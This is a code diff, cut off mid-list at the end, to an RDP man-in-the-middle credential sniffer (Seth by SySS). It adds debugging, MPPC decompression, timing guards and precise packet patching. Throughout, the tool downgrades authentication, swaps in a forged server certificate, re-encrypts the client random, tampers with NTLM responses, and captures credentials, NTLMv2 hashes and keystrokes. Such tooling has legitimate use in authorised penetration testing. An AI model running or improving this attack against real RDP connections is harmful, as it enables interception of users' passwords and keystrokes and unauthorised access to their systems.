@@ -11,6 +11,7 @@ Adrian Vollmer, SySS GmbH 2017
 # Requirements: python3-rsa
 
 import argparse
+import contextlib
 import socket
 import ssl
 from binascii import hexlify, unhexlify
@@ -19,18 +20,41 @@ import select
 import struct
 import hashlib
 import subprocess
+import collections
+import os
+import signal
+import sys
+import time
 
 try:
     from hexdump import hexdump
 except ImportError:
     print("Warning: The python3 module 'hexdump' is missing.  "
           "Using hexlify instead.")
-    def hexdump(x): print(hexlify(x).decode())
+    def hexdump(x, result='print'):
+        if result == 'return':
+            return hexlify(x).decode()
+        print(hexlify(x).decode())
 
 parser = argparse.ArgumentParser(
     description="RDP credential sniffer -- Adrian Vollmer, SySS GmbH 2017")
 parser.add_argument('-d', '--debug', dest='debug', action="store_true",
-    default=False, help="show debug information")
+    default=False, help="record the last packets of each connection and "
+    "dump them to a file on errors, on disconnect or on SIGUSR1")
+parser.add_argument('--debug-packets', dest='debug_packets', type=int,
+    default=256, help="number of packets to keep per connection in debug "
+    "mode (default 256)")
+parser.add_argument('--debug-dir', dest='debug_dir', type=str, default=".",
+    help="directory to write debug dumps to (default .)")
+parser.add_argument('--decompress-client-only', dest='decompress_client_only',
+    action="store_true", default=False, help="only decompress data sent by "
+    "the client, which saves the expensive server direction")
+parser.add_argument('--analysis-budget', dest='analysis_budget', type=float,
+    default=50, help="time in ms an analysis step may take per packet before "
+    "it is skipped for packets of that size, 0 to disable (default 50)")
+parser.add_argument('--latency-check', dest='latency_check',
+    action="store_true", default=False, help="run the analysis steps on "
+    "generated worst case packets and exit with 1 if any exceeds the budget")
 parser.add_argument('-p', '--listen-port', dest='listen_port', type=int,
     default=3389, help="TCP port to listen on (default 3389)")
 parser.add_argument('-b', '--bind-ip', dest='bind_ip', type=str, default="",
@@ -39,15 +63,19 @@ parser.add_argument('-g', '--downgrade', dest='downgrade', type=int,
     default=3, action="store", choices=[0,1,3,11],
     help="downgrade the authentication protocol to this (default 3)")
 parser.add_argument('-c', '--certfile', dest='certfile', type=str,
-    required=True, help="path to the certificate file")
+    help="path to the certificate file")
 parser.add_argument('-k', '--keyfile', dest='keyfile', type=str,
-    required=True, help="path to the key file")
-parser.add_argument('target_host', type=str,
+    help="path to the key file")
+parser.add_argument('target_host', type=str, nargs='?',
     help="target host of the RDP service")
 parser.add_argument('target_port', type=int, default=3389, nargs='?',
     help="TCP port of the target RDP service (default 3389)")
 
 args = parser.parse_args()
+if not args.latency_check and None in [args.certfile, args.keyfile,
+                                       args.target_host]:
+    parser.error("the following arguments are required: -c/--certfile, "
+                 "-k/--keyfile, target_host")
 
 
 TERM_PRIV_KEY = { # little endian, from [MS-RDPBCGR].pdf
@@ -89,6 +117,14 @@ SCANCODE = {
 
 crypto = {}
 
+# Bulk compression flags, [MS-RDPBCGR] 3.1.8.2.1
+PACKET_COMPR_TYPE_8K = 0x00
+PACKET_COMPR_TYPE_64K = 0x01
+PACKET_COMPR_TYPE_MASK = 0x0F
+PACKET_COMPRESSED = 0x20
+PACKET_AT_FRONT = 0x40
+PACKET_FLUSHED = 0x80
+
 class RC4(object):
     def __init__(self, key):
         x = 0
@@ -119,6 +155,214 @@ class RC4(object):
         pad2 = b"\x5c"*48
         # TODO finish this
 
+class FlightRecorder(object):
+    """Keeps the last packets of a connection in a ring buffer. Packets are
+    stored as they are and only formatted when the buffer is dumped."""
+    def __init__(self, size, peer=""):
+        self.entries = collections.deque(maxlen=size)
+        self.peer = peer
+        self.recorded = 0
+        self.dumped = 0
+
+
+    def record(self, data, kind, From=None):
+        self.entries.append((time.time(), kind, From, data))
+        self.recorded += 1
+
+
+    def dump(self, reason):
+        if self.recorded == self.dumped:
+            return None
+        self.dumped = self.recorded
+        filename = os.path.join(args.debug_dir, "seth-%s-%s-%d.log" % (
+            self.peer,
+            time.strftime("%Y%m%d-%H%M%S"),
+            self.recorded,
+        ))
+        with open(filename, "w") as f:
+            f.write("Reason: %s\n" % reason)
+            f.write("Packets: %d of %d\n\n" % (len(self.entries),
+                                               self.recorded))
+            for timestamp, kind, From, data in self.entries:
+                f.write("%s.%03d %s %s (%d bytes)\n" % (
+                    time.strftime("%H:%M:%S", time.localtime(timestamp)),
+                    int(timestamp*1000) % 1000,
+                    From or "-",
+                    kind,
+                    len(data),
+                ))
+                f.write(hexdump(data, result='return') + "\n\n")
+        print("Debug data written to %s" % filename)
+        return filename
+
+
+class MPPC(object):
+    """MPPC bulk decompressor for one direction of a connection, see
+    [MS-RDPBCGR] 3.1.8.4. The history buffer is allocated once for the
+    largest (64K) variant and reused for all PDUs."""
+    def __init__(self):
+        self.history = bytearray(65536)
+        self.offset = 0
+
+
+    def decompress(self, data, flags):
+        size = 65536 if flags & PACKET_COMPR_TYPE_MASK else 8192
+        if flags & (PACKET_AT_FRONT | PACKET_FLUSHED):
+            # A flushed history is never referenced again, so there is no
+            # need to clear it
+            self.offset = 0
+        if not flags & PACKET_COMPRESSED:
+            return data
+
+        rdp5 = (flags & PACKET_COMPR_TYPE_MASK == PACKET_COMPR_TYPE_64K)
+        max_ones = 14 if rdp5 else 11
+        history = self.history
+        start = pos = self.offset
+        # Read the bit stream in 32 bit words, so that the accumulator
+        # always holds the longest token (30 bits) after a refill
+        n_words = len(data)//4 + 2
+        words = struct.unpack('>%dI' % n_words,
+                              data.ljust(n_words*4, b"\x00"))
+        acc = acc_bits = k = consumed = 0
+        total = len(data)*8
+
+        while total - consumed >= 8:
+            if acc_bits < 32:
+                acc = ((acc & ((1 << acc_bits) - 1)) << 32) | words[k]
+                acc_bits += 32
+                k += 1
+            w = (acc >> (acc_bits - 32)) & 0xFFFFFFFF
+
+            # Literal
+            if w < 0xC0000000:
+                if pos >= size:
+                    raise ValueError("MPPC history buffer overflow")
+                if w < 0x80000000:
+                    history[pos] = w >> 24
+                    n = 8
+                else:
+                    history[pos] = ((w >> 23) & 0x7F) + 0x80
+                    n = 9
+                pos += 1
+                acc_bits -= n
+                consumed += n
+                continue
+
+            # Copy offset
+            if rdp5:
+                if w & 0xF8000000 == 0xF8000000:
+                    copy_offset, n = (w >> 21) & 0x3F, 11
+                elif w & 0xF8000000 == 0xF0000000:
+                    copy_offset, n = ((w >> 19) & 0xFF) + 64, 13
+                elif w & 0xF0000000 == 0xE0000000:
+                    copy_offset, n = ((w >> 17) & 0x7FF) + 320, 15
+                else:
+                    copy_offset, n = ((w >> 13) & 0xFFFF) + 2368, 19
+            else:
+                if w & 0xF0000000 == 0xF0000000:
+                    copy_offset, n = (w >> 22) & 0x3F, 10
+                elif w & 0xF0000000 == 0xE0000000:
+                    copy_offset, n = ((w >> 20) & 0xFF) + 64, 12
+                else:
+                    copy_offset, n = ((w >> 16) & 0x1FFF) + 320, 16
+            acc_bits -= n
+            consumed += n
+
+            # Length of match: k leading ones, a zero and k+1 bits
+            if acc_bits < 32:
+                acc = ((acc & ((1 << acc_bits) - 1)) << 32) | words[k]
+                acc_bits += 32
+                k += 1
+            w = (acc >> (acc_bits - 32)) & 0xFFFFFFFF
+            ones = 32 - (~w & 0xFFFFFFFF).bit_length()
+            if ones == 0:
+                length, n = 3, 1
+            elif ones <= max_ones:
+                n = 2*ones + 2
+                base = 1 << (ones+1)
+                length = base + ((w >> (32-n)) & (base-1))
+            else:
+                raise ValueError("Invalid MPPC length of match")
+            acc_bits -= n
+            consumed += n
+            if consumed > total:
+                raise ValueError("Truncated MPPC data")
+
+            if copy_offset == 0 or pos + length > size:
+                raise ValueError("Invalid MPPC copy tuple")
+            src = (pos - copy_offset) % size
+            if src + length <= pos:
+                history[pos:pos+length] = history[src:src+length]
+            elif src < pos:
+                # The match overlaps itself, so it repeats the last
+                # copy_offset bytes
+                pattern = history[src:pos]
+                history[pos:pos+length] = (
+                    pattern * (length // len(pattern) + 1))[:length]
+            else:
+                for j in range(length):
+                    history[pos+j] = history[(src+j) % size]
+            pos += length
+
+        self.offset = pos
+        return bytes(history[start:pos])
+
+
+# Steps that other parts of the proxy depend on. They are timed, but never
+# skipped: the relay breaks without the state they set up, and the RC4
+# state and compression history must see every packet.
+ESSENTIAL_STEPS = ["decrypt", "decompress", "credentials", "server challenge",
+                   "ntlmv2", "client random", "server cert"]
+OVERRUNS_BEFORE_SKIP = 3
+SKIPS_BEFORE_RETRY = 100
+
+class AnalysisGuard(object):
+    """Measures the time each analysis step takes. A step that exceeds the
+    budget repeatedly is logged and skipped for a while for packets at least
+    as large as the smallest one it was too slow on."""
+    def __init__(self, budget):
+        self.budget = budget
+        self.overruns = collections.Counter()
+        self.skipped = collections.Counter()
+        self.max_elapsed = collections.defaultdict(float)
+        self.overrun_size = {}
+        self.size_limit = {}
+
+
+    def run(self, step, size, func, *args):
+        if (step in self.size_limit and size >= self.size_limit[step]
+                and not step in ESSENTIAL_STEPS):
+            self.skipped[step] += 1
+            if self.skipped[step] % SKIPS_BEFORE_RETRY == 0:
+                # give the step another chance
+                del self.size_limit[step]
+                del self.overrun_size[step]
+            return None
+        start = time.perf_counter()
+        try:
+            return func(*args)
+        finally:
+            elapsed = time.perf_counter() - start
+            if elapsed > self.max_elapsed[step]:
+                self.max_elapsed[step] = elapsed
+            if self.budget and elapsed > self.budget:
+                self.overrun(step, size, elapsed)
+
+
+    def overrun(self, step, size, elapsed):
+        self.overruns[step] += 1
+        print("Analysis step '%s' took %.1f ms for %d bytes" %
+              (step, elapsed*1000, size))
+        if step in ESSENTIAL_STEPS:
+            return
+        self.overrun_size[step] = min(size,
+                                      self.overrun_size.get(step, size))
+        if self.overruns[step] % OVERRUNS_BEFORE_SKIP == 0:
+            self.size_limit[step] = self.overrun_size[step]
+            print("Skipping '%s' for packets of %d bytes or more for a while"
+                  % (step, self.size_limit[step]))
+
+
 def substr(s, offset, count):
     return s[offset:offset+count]
 
@@ -164,10 +408,37 @@ def extract_server_challenge(bytes, m):
     return b"Server challenge: " + hexlify(server_challenge)
 
 
+def find_server_security_data(bytes):
+    """Returns the offset after the header of the last Server Security Data
+    block (0x0c02) that follows a Server Core (0x0c01) and a Server Network
+    Data block (0x0c03), or None"""
+    core = bytes.find(b"\x01\x0c")
+    if core < 0:
+        return None
+    net = bytes.find(b"\x03\x0c", core+2)
+    if net < 0:
+        return None
+    sec = bytes.rfind(b"\x02\x0c", net+2)
+    if sec < 0:
+        return None
+    return sec+2
+
+
+def has_server_cert(bytes):
+    sec = find_server_security_data(bytes)
+    return sec is not None and bytes.find(b"RSA1", sec) >= 0
+
+
+def has_client_random(bytes):
+    marker = bytes.find(b"\x01", 7)
+    return marker >= 0 and bytes.find(b"\x00"*8, marker+1) >= 0
+
+
 def extract_server_cert(bytes):
     # Reference: [MS-RDPBCGR].pdf from 2010, v20100305
-    m2 = re.match(b".*010c.*030c.*020c", hexlify(bytes))
-    offset = len(m2.group())//2
+    offset = find_server_security_data(bytes)
+    if offset is None:
+        return b""
     size = struct.unpack('<H', substr(bytes, offset, 2))[0]
     encryption_method, encryption_level, server_random_len, server_cert_len = (
         struct.unpack('<IIII', substr(bytes, offset+2, 16))
@@ -224,18 +495,42 @@ def extract_server_cert(bytes):
             b"\nServer random: " + hexlify(server_random) )
 
 
-def extract_client_random(bytes):
-    global crypto
+def server_cert_offsets(bytes):
+    """Returns the offsets of the modulus and the signature of the
+    proprietary server certificate, or None"""
+    offset = find_server_security_data(bytes)
+    if offset is None:
+        return None
+    server_random_len = struct.unpack('<I', substr(bytes, offset+10, 4))[0]
+    cert_offset = offset+18+server_random_len
+    pubkey_len = struct.unpack('<H', substr(bytes, cert_offset+14, 2))[0]
+    return cert_offset+16+20, cert_offset+20+pubkey_len
+
+
+def find_client_random(bytes):
+    """Returns the offset of the length field of the encrypted client
+    random, which is followed by the rest of the packet"""
     for i in range(7,len(bytes)-4):
+        # compare the lowest byte first, unpacking every offset is slow
+        if not bytes[i] == (len(bytes)-i-4) & 0xFF:
+            continue
         rand_len = bytes[i:i+4]
         if struct.unpack('<I', rand_len)[0] == len(bytes)-i-4:
-            client_rand = bytes[i+4:]
-            crypto["enc_client_rand"] = client_rand
-            client_rand = rsa_decrypt(client_rand, crypto["mykey"])
-            crypto["client_rand"] = client_rand
-            generate_session_keys()
-            return(b"Client random: " + hexlify(client_rand))
-    return b""
+            return i
+    return None
+
+
+def extract_client_random(bytes):
+    global crypto
+    i = find_client_random(bytes)
+    if i is None:
+        return b""
+    client_rand = bytes[i+4:]
+    crypto["enc_client_rand"] = client_rand
+    client_rand = rsa_decrypt(client_rand, crypto["mykey"])
+    crypto["client_rand"] = client_rand
+    generate_session_keys()
+    return(b"Client random: " + hexlify(client_rand))
 
 
 def reencrypt_client_random(bytes):
@@ -243,11 +538,26 @@ def reencrypt_client_random(bytes):
     public key) with the client random encrypted with the original public
     key"""
 
-    reenc_client_rand = rsa_encrypt(crypto["client_rand"],
-                                    crypto["pubkey"]) + b"\x00"*8
-    result = bytes.replace(crypto["enc_client_rand"],
-                           reenc_client_rand)
-    return result
+    enc_client_rand = crypto["enc_client_rand"]
+    # The buffer may hold more than one PDU, so look at each one on its own
+    start = 0
+    while start < len(bytes):
+        length, _ = pdu_length(bytes, start)
+        if not length:
+            return []
+        pdu = bytes[start:start+length]
+        i = find_client_random(pdu)
+        if i is not None and pdu[i+4:] == enc_client_rand:
+            break
+        start += length
+    else:
+        return []
+
+    # Keep the size, otherwise the enclosing MCS length would be wrong
+    reenc_client_rand = rsa_encrypt(crypto["client_rand"], crypto["pubkey"])
+    reenc_client_rand = reenc_client_rand.ljust(len(enc_client_rand),
+                                                b"\x00")
+    return [(start+i+4, enc_client_rand, reenc_client_rand)]
 
 
 def generate_rsa_key(keysize):
@@ -314,7 +624,14 @@ def is_fast_path(bytes):
 
 def decrypt(bytes, From="Client"):
     cleartext = b""
-    if is_fast_path(bytes):
+    if bytes[:2] == b"\x03\x00":
+        is_fast_path_pdu = False
+    elif pdu_length(bytes)[0] == len(bytes):
+        is_fast_path_pdu = True
+    else:
+        # neither a complete fast-path nor a slow-path PDU
+        return bytes
+    if is_fast_path_pdu:
         is_encrypted = (bytes[0] >> 7 == 1)
         has_opt_length = (bytes[1] >= 0x80)
         offset = 2
@@ -335,14 +652,117 @@ def decrypt(bytes, From="Client"):
             cleartext = rc4_decrypt(bytes[offset:], From=From)
 
     if not cleartext == b"":
-        if args.debug:
-            print("Cleartext: ")
-            hexdump(cleartext)
-        return bytes[:offset] + cleartext
+        result = bytes[:offset] + cleartext
+        dump_data(result, From=From, Kind="decrypted")
+        return result
     else:
         return bytes
 
 
+def decompress_payload(data, flags, From="Client"):
+    compr_type = flags & PACKET_COMPR_TYPE_MASK
+    if compr_type > PACKET_COMPR_TYPE_64K:
+        if flags & PACKET_COMPRESSED and not "ncrush_warning" in globals():
+            global ncrush_warning
+            ncrush_warning = True
+            print("Bulk compression type %d is not supported" % compr_type)
+        return data
+    return decompressors[From].decompress(data, flags)
+
+
+def decompress(bytes, From="Client"):
+    """Replace bulk compressed payloads of Share Data PDUs and fast-path
+    updates with the decompressed data. The headers are left alone except
+    for the compression fields."""
+    if args.decompress_client_only and From == "Server":
+        return bytes
+    if not "decompressors" in globals():
+        return bytes
+
+    try:
+        if bytes[:2] == b"\x03\x00":
+            result = decompress_share_data(bytes, From=From)
+        elif (From == "Server" and bytes[0] % 4 == 0
+              and pdu_length(bytes)[0] == len(bytes)):
+            result = decompress_fast_path(bytes, From=From)
+        else:
+            return bytes
+    except (ValueError, IndexError, struct.error) as e:
+        print("Failed to decompress data: %s" % str(e))
+        dump_flight_recorder("Failed to decompress data: %s" % str(e))
+        return bytes
+
+    if not result == bytes:
+        dump_data(result, From=From, Kind="decompressed")
+    return result
+
+
+def decompress_share_data(bytes, From="Client"):
+    # TPKT, X.224 and MCS Send Data Request/Indication headers
+    if len(bytes) <= 15 or not bytes[7] in [0x64, 0x68]:
+        return bytes
+    if not struct.unpack('>H', bytes[2:4])[0] == len(bytes):
+        # Decompressing part of a PDU would corrupt the history
+        print("Not decompressing incomplete PDU (%d of %d bytes)" %
+              (len(bytes), struct.unpack('>H', bytes[2:4])[0]))
+        return bytes
+    offset = 13
+    if bytes[offset] >= 0x80: offset += 1
+    offset += 1
+    if sym_encryption_enabled():
+        security_flags = struct.unpack('<H', bytes[offset:offset+2])[0]
+        offset += 12 if security_flags & 0x0008 else 4
+
+    # Share Control Header, followed by the Share Data Header for data PDUs
+    pdu_type = struct.unpack('<H', substr(bytes, offset+2, 2))[0]
+    if not pdu_type & 0x0F == 0x07 or len(bytes) < offset+18:
+        return bytes
+    flags = bytes[offset+15]
+    if not flags & (PACKET_COMPRESSED | PACKET_AT_FRONT | PACKET_FLUSHED):
+        return bytes
+    data = bytes[offset+18:]
+    payload = decompress_payload(data, flags, From=From)
+    if payload is data:
+        return bytes
+    return (bytes[:offset+15] + b"\x00" +
+            struct.pack('<H', len(payload)) + payload)
+
+
+def decompress_fast_path(bytes, From="Server"):
+    offset = 2
+    if bytes[1] >= 0x80: offset += 1
+    if bytes[0] >> 7 == 1: offset += 8
+
+    result = [bytes[:offset]]
+    modified = False
+    while offset < len(bytes):
+        update_header = bytes[offset]
+        offset += 1
+        flags = 0
+        if update_header & 0x80: # FASTPATH_OUTPUT_COMPRESSION_USED
+            flags = bytes[offset]
+            offset += 1
+        size = struct.unpack('<H', bytes[offset:offset+2])[0]
+        offset += 2
+        data = bytes[offset:offset+size]
+        offset += size
+        if flags:
+            decompressed = decompress_payload(data, flags, From=From)
+            if flags & PACKET_COMPRESSED and not decompressed is data:
+                data = decompressed
+                update_header &= 0x3F
+                modified = True
+        if update_header & 0x80:
+            result.append(b"%c%c" % (update_header, flags))
+        else:
+            result.append(b"%c" % update_header)
+        result.append(struct.pack('<H', len(data)) + data)
+
+    if not modified:
+        return bytes
+    return b"".join(result)
+
+
 def sym_encryption_enabled():
     global crypto
     if "client_rand" in crypto:
@@ -480,6 +900,10 @@ def extract_key_press(bytes):
 
 def replace_server_cert(bytes):
     global crypto
+    offsets = server_cert_offsets(bytes)
+    if offsets is None:
+        return []
+    modulus_offset, sign_offset = offsets
     old_sig = sign_certificate(crypto["first5fields"] +
                                crypto["pubkey_blob"])
     assert old_sig == crypto["sign"]
@@ -487,13 +911,14 @@ def replace_server_cert(bytes):
     crypto["mykey"] = generate_rsa_key(key_len*8)
     new_modulus = crypto["mykey"]["modulus"].to_bytes(key_len + 8, "little")
     old_modulus = crypto["modulus"]
-    result = bytes.replace(old_modulus, new_modulus)
-    new_pubkey_blob = crypto["pubkey_blob"].replace(old_modulus,
-                                                             new_modulus)
+    new_pubkey_blob = (crypto["pubkey_blob"][:20] + new_modulus +
+                       crypto["pubkey_blob"][20+len(new_modulus):])
     new_sig = sign_certificate(crypto["first5fields"] + new_pubkey_blob)
-    result = result.replace(crypto["sign"], new_sig)
 
-    return result
+    return [
+        (modulus_offset, old_modulus, new_modulus),
+        (sign_offset, crypto["sign"], new_sig),
+    ]
 
 
 def sign_certificate(cert):
@@ -528,56 +953,61 @@ def parse_rdp_packet(bytes, From="Client"):
 
     if len(bytes) < 4: return b""
 
+    size = len(bytes)
+    guard = analysis_guard.run
+
     if sym_encryption_enabled():
-        bytes = decrypt(bytes, From=From)
+        bytes = guard("decrypt", size, decrypt, bytes, From)
+    bytes = guard("decompress", size, decompress, bytes, From)
 
     result = b""
     # hexlify first because \x0a is a line break and regex works on single
     # lines
+    h = hexlify(bytes)
+    size = len(bytes)
 
     # "0x0040 MUST be present"
     regex = b".{30}40.{20}(.{4})(.{4})(.{4})"
-    m = re.match(regex, hexlify(bytes))
+    m = guard("credentials", size, re.match, regex, h)
     if m:
         try:
             result = extract_credentials(bytes, m)
         except:
             result = b""
+            dump_flight_recorder("Failed to extract credentials")
         #  close();exit(0)
 
     regex = b".*%s0002000000" % hexlify(b"NTLMSSP")
-    m = re.match(regex, hexlify(bytes))
+    m = guard("server challenge", size, re.match, regex, h)
     if m:
         result = extract_server_challenge(bytes, m)
 
     regex = b".*%s0003000000" % hexlify(b"NTLMSSP")
-    m = re.match(regex, hexlify(bytes))
+    m = guard("ntlmv2", size, re.match, regex, h)
     if m:
         result = extract_ntlmv2(bytes, m)
 
     global crypto
-    if "client_rand" in crypto:
-        regex = b".{14,}01.*0{16}"
-        m = re.match(regex, hexlify(bytes))
-        if m and crypto["client_rand"] == b"":
-            result = extract_client_random(bytes)
+    if "client_rand" in crypto and crypto["client_rand"] == b"":
+        if guard("client random", size, has_client_random, bytes):
+            result = guard("client random", size, extract_client_random,
+                           bytes)
 
-    regex = b".*020c.*%s" % hexlify(b"RSA1")
-    m = re.match(regex, hexlify(bytes))
-    if m:
-        result = extract_server_cert(bytes)
+    if guard("server cert", size, has_server_cert, bytes):
+        result = guard("server cert", size, extract_server_cert, bytes)
 
     regex = b".*0d00(.{4}).{164}0000" ## TODO
-    m = re.match(regex, hexlify(bytes))
+    m = guard("keyboard layout", size, re.match, regex, h)
     if m and From == "Client":
         # A parsing error here shouldn't be a show stopper, so catch exceptions
         try:
             result = extract_keyboard_layout(bytes, m)
         except:
             print("Failed to extract keyboard layout information")
+            dump_flight_recorder("Failed to extract keyboard layout")
 
     if len(bytes)>3 and bytes[-2] in [0,1,2,3] and result == b"":
-        result = extract_key_press(bytes)
+        result = guard("key press", size, extract_key_press, bytes)
 
 
     if not result == b"" and not result == None:
@@ -585,36 +1015,30 @@ def parse_rdp_packet(bytes, From="Client"):
 
 
 def tamper_data(bytes, From="Client"):
-    result = bytes
+    patches = []
 
     global crypto
-    if "client_rand" in crypto:
-        regex = b".{14,}01.*0{16}"
-        m = re.match(regex, hexlify(bytes))
-        if m and not crypto["client_rand"] == b"":
-            result = reencrypt_client_random(bytes)
+    if ("client_rand" in crypto and not crypto["client_rand"] == b""
+            and "enc_client_rand" in crypto):
+        if has_client_random(bytes):
+            patches += reencrypt_client_random(bytes)
 
-    regex = b".*020c.*%s" % hexlify(b"RSA1")
-    m = re.match(regex, hexlify(bytes))
-    if m:
-        result = replace_server_cert(bytes)
+    if has_server_cert(bytes) and "first5fields" in crypto:
+        patches += replace_server_cert(bytes)
 
     regex = b".*%s..010c" % hexlify(b"McDn")
     m = re.match(regex, hexlify(bytes))
     if m:
-        result = set_fake_requested_protocol(bytes, m)
+        patches += set_fake_requested_protocol(bytes, m)
 
 
     global nt_response
     if "nt_response" in globals():
         global RDP_PROTOCOL
-        regex = b".*%s0003000000.*%s" % (
-            hexlify(b"NTLMSSP"),
-            hexlify(nt_response)
-        )
-        m = re.match(regex, hexlify(bytes))
-        if m and RDP_PROTOCOL > 2:
-            result = tamper_nt_response(bytes)
+        ntlmssp = bytes.rfind(b"NTLMSSP\x00\x03\x00\x00\x00")
+        if (ntlmssp >= 0 and bytes.find(nt_response, ntlmssp) >= 0
+                and RDP_PROTOCOL > 2):
+            patches += tamper_nt_response(bytes, ntlmssp)
 
     global server_challenge
     if (From == "Server"
@@ -624,28 +1048,127 @@ def tamper_data(bytes, From="Client"):
         m = re.match(regex, bytes)
         if m:
             print("Downgrading CredSSP")
-            result = unhexlify(b"300da003020104a4060204c000005e")
+            patches.append(
+                (0, bytes, unhexlify(b"300da003020104a4060204c000005e"))
+            )
+
+    if not patches:
+        return bytes
+
+    result = apply_patches(bytes, patches, From=From)
+    dump_data(result, From=From, Kind="modified")
 
+    return result
+
+
+def check_patch(data, patch):
+    offset, old, new = patch
+    if not data[offset:offset+len(old)] == old:
+        print("Patch at offset %d does not match the data, skipping" %
+              offset)
+        return False
+    return True
 
-    if not result == bytes and args.debug:
-        dump_data(result, From=From, Modified=True)
 
+def pdu_length(data, start=0):
+    """Returns the length of the TPKT or fast-path PDU at start and the
+    length of its header, or (None, None)"""
+    if len(data) < start+3:
+        return None, None
+    if data[start:start+2] == b"\x03\x00" and len(data) >= start+4:
+        length = struct.unpack('>H', data[start+2:start+4])[0]
+        header_len = 4
+    elif data[start] % 4 == 0: #fastpath
+        length = data[start+1]
+        header_len = 2
+        if length >= 0x80:
+            length = struct.unpack('>H', data[start+1:start+3])[0]
+            length -= 0x80*0x100
+            header_len = 3
+    else:
+        return None, None
+    if length <= 0 or start+length > len(data):
+        return None, None
+    return length, header_len
+
+
+def length_fixups(data, patches):
+    """Returns patches for the length fields of the TPKT and fast-path
+    PDUs in data whose size is changed by patches. Length fields of inner
+    structures are the responsibility of the tamperer."""
+    fixups = []
+    start = 0
+    while start < len(data)-2:
+        length, header_len = pdu_length(data, start)
+        if not length:
+            break
+        field_offset = start+2 if header_len == 4 else start+1
+        end = start + length
+        inside = [p for p in patches if start <= p[0] < end]
+        delta = sum(len(new) - len(old) for _, old, new in inside)
+        # don't touch the header if a tamperer already rewrote it
+        if delta and all(offset >= start+header_len
+                         for offset, _, _ in inside):
+            if header_len == 4:
+                new_header = struct.pack('>H', length + delta)
+            elif header_len == 2 and length + delta < 0x80:
+                new_header = bytes([length + delta])
+            else:
+                # switching to the long form adds a byte to the header
+                new_length = length + delta + 3 - header_len
+                new_header = struct.pack('>H', new_length | 0x8000)
+            fixups.append((field_offset, data[field_offset:start+header_len],
+                           new_header))
+        start = end
+    return fixups
+
+
+def apply_patches(data, patches, From=None):
+    """Apply a list of (offset, old, new) patches to data in one pass and
+    adjust the length fields of the enclosing PDUs"""
+    patches = sorted(
+        [p for p in patches if check_patch(data, p)],
+        key=lambda p: p[0],
+    )
+    non_overlapping = []
+    end = 0
+    for p in patches:
+        if p[0] < end:
+            print("Patch at offset %d overlaps another one, skipping" % p[0])
+            continue
+        non_overlapping.append(p)
+        end = p[0] + len(p[1])
+    patches = sorted(non_overlapping + length_fixups(data, non_overlapping),
+                     key=lambda p: p[0])
+
+    view = memoryview(data)
+    result = bytearray()
+    pos = 0
+    for offset, old, new in patches:
+        dump_data(new, From=From,
+                  Kind="patch at offset %d (%d -> %d bytes)" %
+                  (offset, len(old), len(new)))
+        result += view[pos:offset]
+        result += new
+        pos = offset + len(old)
+    result += view[pos:]
     return result
 
 
-def tamper_nt_response(data):
+def tamper_nt_response(data, ntlmssp):
     """The connection is sometimes terminated if NTLM is successful"""
     print("Tamper with NTLM response")
     global nt_response
     fake_response = bytes([(nt_response[0] + 1 ) % 0xFF]) + nt_response[1:]
-    return data.replace(nt_response, fake_response)
+    # NtChallengeResponseFields start 20 bytes into the AUTHENTICATE message
+    offset = ntlmssp + struct.unpack('<I', substr(data, ntlmssp+24, 4))[0]
+    return [(offset, nt_response, fake_response)]
 
 
 def set_fake_requested_protocol(data, m):
     print("Hiding forged protocol request from client")
     offset = len(m.group())//2
-    result = data[:offset+6] + bytes([RDP_PROTOCOL_OLD]) + data[offset+7:]
-    return result
+    return [(offset+6, data[offset+6:offset+7], bytes([RDP_PROTOCOL_OLD]))]
 
 
 def downgrade_auth(bytes):
@@ -663,28 +1186,123 @@ def downgrade_auth(bytes):
         print("Downgrading authentication options from %d to %d" %
               (RDP_PROTOCOL, args.downgrade))
         RDP_PROTOCOL = args.downgrade
-        result = (
-            bytes[:-7] +
-            b"\x00\x08\x00" +
-            chr(RDP_PROTOCOL).encode() +
-            b"\x00\x00\x00"
-        )
-        dump_data(result, From="Client", Modified=True)
+        result = apply_patches(bytes, [
+            (len(bytes)-4, bytes[-4:], struct.pack('<I', RDP_PROTOCOL)),
+        ], From="Client")
+        dump_data(result, From="Client", Kind="modified")
         return result
     return bytes
 
 
-def dump_data(data, From=None, Modified=False):
-    if args.debug:
-        modified = ""
-        if Modified:
-            modified = " (modified)"
-        if From == "Server":
-            print("From server:"+modified)
-        elif From == "Client":
-            print("From client:"+modified)
+def dump_data(data, From=None, Kind="raw"):
+    if args.debug and "flight_recorder" in globals():
+        flight_recorder.record(data, Kind, From=From)
+
+
+def dump_flight_recorder(reason):
+    if args.debug and "flight_recorder" in globals():
+        try:
+            flight_recorder.dump(reason)
+        except OSError as e:
+            print("Failed to write debug data: %s" % str(e))
+
+
+def handle_sigusr1(signum, frame):
+    dump_flight_recorder("Received SIGUSR1")
+
+
+def adversarial_corpus():
+    """Worst case packets for the analysis steps: long zero runs, repeated
+    markers, maximum length PDUs and bulk compressed data that expands to
+    the full history buffer"""
+    def tpkt(payload):
+        payload = payload[:0xFFFF-4]
+        return b"\x03\x00" + struct.pack('>H', len(payload)+4) + payload
+
+    def fast_path(payload):
+        payload = payload[:0x7FFF-3]
+        return (b"\x44" + struct.pack('>H', (len(payload)+3) | 0x8000) +
+                payload)
+
+    def share_data(compressed):
+        # MCS Send Data Indication with a Share Data PDU
+        compressed = compressed[:0xFFFF-33]
+        flags = PACKET_COMPRESSED | PACKET_AT_FRONT | PACKET_COMPR_TYPE_64K
+        pdu = (struct.pack('<HHH', 0, 0x17, 1002) +
+               struct.pack('<IBBHBBH', 0x103ea, 0, 1, 0, 0x1c, flags,
+                           len(compressed)) + compressed)
+        return tpkt(b"\x02\xf0\x80\x68\x00\x06\x03\xeb\x70" +
+                    struct.pack('>H', len(pdu) | 0x8000) + pdu)
+
+    def fast_path_update(compressed):
+        compressed = compressed[:0x7FFF-7]
+        flags = PACKET_COMPRESSED | PACKET_AT_FRONT | PACKET_COMPR_TYPE_64K
+        return fast_path(b"\x81%c" % flags +
+                         struct.pack('<H', len(compressed)) + compressed)
+
+    # MPPC: one literal and a copy of 65534 bytes at offset 1
+    bits = "01100001" + "11111" + "000001" + "1"*14 + "0" + format(
+        65534 - 0x8000, "015b")
+    bits += "0" * (-len(bits) % 8)
+    long_match = int(bits, 2).to_bytes(len(bits)//8, "big")
+    # MPPC: the longest literal encoding, 0x80 in nine bits
+    bits = "100000000" * (0xFFFF*8//9)
+    high_literals = int(bits, 2).to_bytes(len(bits)//8 + 1, "big")
+
+    return [
+        ("zero run", tpkt(b"\x00"*0xFFFF)),
+        ("client random markers", tpkt((b"\x01" + b"\x00"*8)*0x1C71)),
